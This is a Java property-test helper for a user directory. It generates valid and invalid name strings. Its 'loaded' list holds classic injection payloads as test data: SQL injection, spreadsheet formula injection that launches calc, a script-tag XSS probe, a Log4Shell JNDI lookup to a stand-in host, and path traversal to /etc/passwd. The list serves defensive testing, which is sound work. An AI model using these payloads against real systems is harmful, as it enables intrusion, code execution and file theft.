package dev.userdirectory.testkit.internal.texts;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * Generators of one-line texts that the directory stores, up to a length in code points, and of
 * texts that it refuses.
 */
public final class Texts {

  private static final List<String> ORDINARY =
      List.of("Casey", "Jordan Park", "robin", "Zo\u00eb", "O'Lee", "dock-4", "7", "x");

  /** Texts with a special meaning to a database, a spreadsheet, a page, a shell or a log. */
  private static final List<String> LOADED =
      List.of(
          "%",
          "_",
          "a%b_c",
          "100 %",
          "'",
          "\"",
          "\\",
          "''; DROP TABLE users; --",
          "' OR '1'='1",
          "=cmd|' /C calc'!A0",
          "+1+1",
          "-1+1",
          "@SUM(A1)",
          "=HYPERLINK(\"//acme.example\")",
          "a,b;c\"d",
          "{\"role\":\"owner\"}",
          "\",\"owner\":true,\"",
          "<script>alert(1)</script>",
          "<!-- & &amp; -->",
          "${jndi:ldap://acme.example/a}",
          "{0} %s %n",
          "../../etc/passwd",
          "null",
          "true",
          "0",
          "NaN");

  /** Texts that are hard to measure, compare, order or show. */
  private static final List<String> ODD =
      List.of(
          "\ud83d\ude00",
          "\ud83d\udc69\u200d\ud83d\udc67",
          "\ud800\udf30\ud800\udf31",
          "\u05d0\u05d1 abc \u0627\u0644",
          "\u0b95\u0bcd\u200c\u0bb7",
          "Jose\u0301",
          "Jos\u00e9",
          "\u0130\u0131",
          "\u00df\u1e9e",
          "\u212a",
          "\uff41",
          "\ufffd",
          "a\u00a0b",
          "a  b");

  /** Control characters, line and paragraph separators, and unpaired surrogates. */
  private static final List<String> FORBIDDEN =
      List.of(
          "\u0000",
          "\n",
          "\r",
          "\r\n",
          "\t",
          "\u0007",
          "\u001b[31m",
          "\u007f",
          "\u0085",
          "\u009f",
          "\u2028",
          "\u2029",
          "\ud800",
          "\udc00",
          "\udc00\ud800");

  /** Texts that consist of white space and invisible characters only. */
  private static final List<String> BLANK =
      List.of(" ", "   ", "\t", "\n", "\u00a0", "\u2003", "\u3000", "\u200b", "\u200b \u2060");

  private static final int LONGEST_NAME = 100;

  private Texts() {}

  /** Returns names without white space around them. */
  public static Arbitrary<String> names() {
    return valid(LONGEST_NAME);
  }

  /** Returns names as people type them, some with white space around them. */
  public static Arbitrary<String> typedNames() {
    return Combinators.combine(names(), padding()).as((name, padding) -> padding + name + padding);
  }

  public static Arbitrary<String> noNames() {
    return invalid(LONGEST_NAME);
  }

  /** Returns texts that are stored unchanged, of at most that many code points. */
  public static Arbitrary<String> valid(int longest) {
    return Arbitraries.frequencyOf(
        Tuple.of(4, Arbitraries.of(ORDINARY)),
        Tuple.of(3, Arbitraries.of(LOADED)),
        Tuple.of(3, Arbitraries.of(ODD)),
        Tuple.of(2, Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(12)),
        Tuple.of(1, repeated(longest - 2, longest)));
  }

  /** Returns texts that can't be stored where at most that many code points are allowed. */
  public static Arbitrary<String> invalid(int longest) {
    Arbitrary<String> broken =
        Combinators.combine(Arbitraries.of(ORDINARY), forbidden(), Arbitraries.of(ORDINARY))
            .as((before, mark, after) -> before + mark + after);
    return Arbitraries.frequencyOf(
        Tuple.of(3, broken),
        Tuple.of(2, Arbitraries.of(BLANK)),
        Tuple.of(2, repeated(longest + 1, longest + 3)),
        Tuple.of(1, Arbitraries.of("x".repeat(70_000))));
  }

  /** Returns white space to put around a text, which the directory strips. */
  private static Arbitrary<String> padding() {
    return Arbitraries.of("", " ", "\t", "\n", "\u3000");
  }

  /** Returns character sequences that a text must not contain. */
  public static Arbitrary<String> forbidden() {
    return Arbitraries.of(FORBIDDEN);
  }

  private static Arbitrary<String> repeated(int least, int most) {
    return Combinators.combine(
            Arbitraries.of("x", "\u00e9", "\u4f8b", "\ud83d\ude00"),
            Arbitraries.integers().between(least, most))
        .as(String::repeat);
  }
}
